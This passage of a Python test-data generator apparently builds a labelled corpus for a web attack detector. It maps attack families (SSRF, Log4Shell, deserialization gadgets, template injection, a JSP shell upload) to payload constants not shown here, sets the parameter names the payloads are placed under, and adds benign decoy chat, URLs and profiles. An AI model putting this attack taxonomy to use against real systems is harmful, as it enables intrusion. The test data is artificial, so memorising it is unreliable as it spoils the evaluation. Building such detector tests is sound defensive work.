    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", DATA_SCHEME),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# bracket and property-path pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "class-loading", "ejs"}

# the parameter names each kind of lab takes its input under
SSRF_NAMES = ["url", "stockApi", "webhook", "image_url", "callback", "feed", "target", "dest"]
INCLUDE_NAMES = ["page", "file", "include", "lang", "view", "template"]
CODE_NAMES = ["q", "input", "expr", "code", "name", "filter", "data", "calc"]
JAVA_NAMES = ["q", "data", "token", "payload", "expression", "name", "redirect", "input"]
SSTI_NAMES = ["name", "message", "template", "greeting", "username", "preview", "subject", "q"]

# raw serialization bytes go where percent-encoding carries any byte
LATIN_CYCLES: Cycles = (("query", "form", "param-name"), ("rs-query", "rs-form", "rs-raw-body", "rs-param-name"))


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body")
    documents = True
    upload = JSP_SHELL
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        if sub.startswith("ssrf"):
            names = SSRF_NAMES
        elif sub == "php-data-scheme":
            names = INCLUDE_NAMES
        elif category == "java":
            names = JAVA_NAMES
        elif category == "ssti":
            names = SSTI_NAMES
        else:
            names = CODE_NAMES
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload.startswith("\xac\xed\x00\x05")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return LATIN_CYCLES if self.is_latin(sub, payload) else super().cycles(category, sub, payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently in a security team's training channel
# (students' questions, instructors' hints, schedules, links to write-ups and docs, reviews, profiles, reports)
CHAT = [
    "reminder: web lab night is Thursday 18:00, we're doing DVWA file inclusion at low and medium",
    "anyone else stuck on the Juice Shop score board challenge? hint: have a look at the main.js bundle",
    "WebGoat container keeps restarting for me, docker logs says port 8080 is already taken",
    "pro tip: reset the DVWA database from setup.php before you switch the security level",
    "the SSTI module this week covers Jinja2, Twig and FreeMarker, bring a laptop with Burp installed",
    "does anyone have the TryHackMe voucher code from the team lead? mine expired yesterday",
    "finished the log4j room, the hardest part was getting the LDAP referral server running on Java 8",
    "who's doing the HackTheBox Bike box tonight? I'll stream it in #web-lab",
    "quick question: why does the client-side prototype pollution lab only work in Chrome for me?",
    "instructor note: please only scan the lab VPN range, never the office network",
    "slides from Tuesday's SSRF session are in the drive under Training/2024/SSRF",
    "for the Ruby week we use RailsGoat, clone it and run bundle install before class",
    "NodeGoat needs MongoDB 4.4, newer versions break the seed script",
    "the Mutillidae reset button is under the Toggle Hints menu, took me ages to find it",
    "bWAPP ships with a default login, change it if you put the VM on a bridged network",
    "kudos to Priya for the clearest write-up of the Spring4Shell lab I've read so far",
    "reading list for Friday: the research post on server-side prototype pollution, really good",
    "the Velocity and FreeMarker labs look similar but the engines are quite different under the hood",
    "TIL plain Jinja2 has autoescaping off by default while Flask turns it on for .html templates",
    "template engines we'll cover: Jinja2, Twig, Smarty, Handlebars, Pug, ERB, Thymeleaf, Razor and Liquid",
    "the insecure deserialization lesson in WebGoat moved in the latest release, it's under A8 now",
    "ysoserial doesn't build on Java 17 for me, use the prebuilt jar from the releases page",
    "if Burp's embedded browser won't start on Linux, check the sandbox setting in the project options",
    "anyone know a good cheat sheet for Go templates? I've only ever used them in Hugo",
    "exam prep: 20 practice labs, timebox each one to 45 minutes and then read the solution",
    "the lab VMs get wiped every Sunday night, export your notes before then",
    "YAML.load vs YAML.safe_load came up in code review today, nice catch Tom",
    "Perl CGI is still common on old appliances, that's why the Perl module stays in the course",
    "please rate the Node.js week in the survey, we're deciding whether to keep the event loop section",
    "heads up: the DigitalOcean droplet for the SSRF demo gets shut down after class to save credit",
    "all our EC2 hosts are IMDSv2-only now, thanks to the platform team for the rollout",
    "the Log4j incident retro from 2021 is pinned in #sec-incidents if you want the real-world story",
    "Liquid is what Shopify and Jekyll use, our blog theme runs on it too",
    "TryHackMe streak: 60 days! the web fundamentals path is done",
    "HTB season ends Friday, we're 3rd among the university teams",
    "question for instructors: is sqlmap allowed in the Juice Shop labs or manual only?",
    "manual only for the graded labs please, tools are fine when you practise",
    "the Razor Pages lab needs the .NET 8 SDK, with 6 it throws a build error",
    "Thymeleaf fragments confused me until I read the layout dialect docs",
    "booked the big room for the CTF final on 14 June, pizza is on the security budget",
    "the lab report template is in the drive, name your file lastname_lab03_report.pdf",
    "Pebble's syntax is close to Twig, which helped a lot in the Java week",
    "the EJS lab breaks on Node 20, switch to Node 18 with nvm for now",
    "our docs site renders with Nunjucks, so that module felt very familiar",
    "Mako came up in the Python module, some Pyramid apps still use it",
    "Tornado's templates look like Jinja2 but blocks close with end instead of endblock",
    "does the Smarty lab need PHP 7 or 8?",
    "PHP 8 is fine for Smarty 4, the VM image has both installed",
    "Jackson and Fastjson both come up in the deserialization week, bring your questions",
    "XStream has used an allowlist by default since 1.4.18, the lab pins an older version on purpose",
    "office hours moved to Wednesday 15:00-16:00 because of the all-hands",
    "next month's guest talk is about hardening cloud metadata access on AWS, GCP and Azure",
    "solved the Pug lab, turns out indentation matters more than I thought",
    "the Node.js docs have a good page on ReDoS, I linked it from the week 4 page",
    "can someone share the current VPN config for the lab network? the old one still points to vpn1",
    "the Jeeves write-up is a good reminder not to leave the Jenkins script console open without auth",
    "WebGoat 2023.8 is the version we support, older ones number the lessons differently",
    "the DVWA impossible level is there so you can compare your fix with how it should be done",
    "Juice Shop has a free companion guide, Pwning OWASP Juice Shop, worth reading after each challenge",
    "great session today, thanks everyone, recordings will be up by tomorrow morning",
]

SEARCHES = [
    "priya", "tom harris", "instructor", "web lab", "dvwa", "juice shop", "webgoat", "appsec", "red team",
    "training", "ctf team", "java", "ruby", "perl", "node", "spring", "log4j", "ssrf", "jenkins", "template",
    "bootcamp 2024", "cohort b", "mentor", "ta", "platform team", "cloud security", "aws", "azure", "gcp",
    "hackthebox", "tryhackme", "burp", "pentest", "security champions", "o'brien", "lab assistant", "freemarker",
    "thymeleaf", "handlebars", "graduated",
]

URLS = [
    "https://owasp.org/www-project-juice-shop/",
    "https://github.com/juice-shop/juice-shop",
    "https://owasp.org/www-project-webgoat/",
    "https://github.com/digininja/DVWA",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/ssrf",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://portswigger.net/web-security/deserialization",
    "https://tryhackme.com/room/solar",
    "https://tryhackme.com/room/owaspjuiceshop",
    "https://app.hackthebox.com/machines/Bike",
    "https://pwning.owasp-juice.shop/companion-guide/latest/",
    "https://github.com/OWASP/NodeGoat",
    "https://github.com/OWASP/railsgoat",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/",
    "https://freemarker.apache.org/docs/",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/documentation.html",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/api/getting-started.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://shopify.github.io/liquid/",
]

PROSE = [
    "students enrolled in the web security fundamentals spring cohort",
    "instructors and teaching assistants for the DVWA and Juice Shop labs",
    "users who completed the server-side template injection module",
    "accounts created for the Java deserialization workshop last week",
    "who still needs access to the lab VPN for the SSRF exercises",
    "people in the Node.js track who asked for an extension on lab 4",
    "team members going to the CTF final in June",
    "mentors for the Ruby on Rails security week",
    "everyone on the cloud security guild mailing list",
    "contractors whose training accounts expire at the end of the month",
    "graduates of last year's application security bootcamp",
    "reviewers for the Log4j incident retrospective",
    "staff who signed up for the HackTheBox team subscription",
    "the person who ran the Thymeleaf and Pebble session",
    "students with an incomplete WebGoat lesson record",
    "lab assistants available on Wednesday afternoons",
    "owners of the Jenkins hardening checklist",
    "new joiners from the platform team who need the security basics course",
    "who presented the prototype pollution talk at the meetup",
    "users tagged perl or cgi in their skills",
    "the Smarty and Twig lab maintainers",
    "guest speakers for the cloud metadata session",
    "accounts locked after the password reset exercise",
    "people who asked about the Razor Pages lab setup",
    "trainers who can cover the Liquid and Jekyll part",
    "members of the security champions program in the Leeds office",
    "everyone who submitted lab 3 reports late",
    "the TryHackMe team admin",
    "students who finished all Juice Shop two-star challenges",
    "who owns the EJS and Pug demo repositories",
    "instructors certified for the Burp Suite practitioner course",
    "the contact for the DigitalOcean training credits",
    "volunteers to review the Go templates cheat sheet",
    "attendees of the Tuesday SSRF session",
    "users with the lab-admin role",
]

PROFILES = [
    ("Priya Raman", "Training team, 3rd floor, Leeds office"),
    ("Tom Harris", "Application Security, 12 King Street, Manchester"),
    ("Aoife O'Brien", "Security Champions program, Dublin"),
    ("Marek Nowak", "Red Team lab, building B, Krakow"),
    ("Sofia Alvarez", "Cloud Security guild, Madrid"),
    ("Kenji Sato", "Platform Engineering, Tokyo"),
    ("Fatima Zahra", "Web Security bootcamp, remote"),
    ("Lukas Becker", "Java platform team, Berlin"),
    ("Chloe Martin", "CTF team captain, Lyon"),
    ("Daniel Okafor", "Teaching assistant, London"),
    ("Hannah Schmidt", "Ruby on Rails guild, Hamburg"),
    ("Arjun Mehta", "Node.js track lead, Bangalore"),
    ("Emma Johansson", "Security training coordinator, Stockholm"),
    ("Mateo Rossi", "Lab infrastructure, Milan"),
    ("Grace Lee", "Instructor, Juice Shop and WebGoat labs, Seoul"),
    ("Oliver Brown", "Perl maintainers group, Edinburgh"),
    ("Nora Haddad", "AppSec reviewer, Amman"),
    ("Samuel Adeyemi", "DevSecOps, Lagos"),
    ("Isabel Costa", "Template engines module author, Lisbon"),
    ("Wei Zhang", "Cloud metadata hardening project, Singapore"),
]

UPLOAD_NAMES = [
    "lab03_ssti_report.pdf",
    "juice-shop-scoreboard.png",
    "dvwa_file_inclusion_notes.md",
    "webgoat-deserialization-writeup.docx",
    "log4shell_retro_2021.pdf",
    "node_redos_benchmark.csv",
    "ssrf-lab-diagram.drawio",
    "spring4shell_timeline.xlsx",
    "course-schedule-2024.ics",
    "template_engines_comparison.xlsx",
    "bike_htb_writeup.pdf",
    "railsgoat-setup.txt",
    "perl_cgi_audit.txt",
    "jenkins-hardening-checklist.pdf",
    "freemarker_vs_velocity.md",
    "thymeleaf-layouts.png",
    "imdsv2_rollout_plan.pdf",
    "prototype_pollution_notes.pdf",
    "ctf_final_photos.zip",
    "certificate_web_fundamentals.png",
]

BENIGN_HEADERS = [
    ("Referer", "https://tryhackme.com/room/solar"),
    ("Referer", "https://portswigger.net/web-security/ssrf"),
    ("Referer", "https://app.hackthebox.com/machines/Bike"),
    ("Referer", "https://github.com/juice-shop/juice-shop/issues"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Cookie", "session=abc123; theme=dark; course=web-101"),
    ("Cookie", "session=abc123; lab=juice-shop; lang=en"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Cache-Control", "no-cache"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("DNT", "1"),
    ("If-Modified-Since", "Tue, 11 Jun 2024 08:00:00 GMT"),
    ("X-Forwarded-Proto", "https"),
    ("Accept", "application/json"),
    ("Sec-Fetch-Mode", "navigate"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
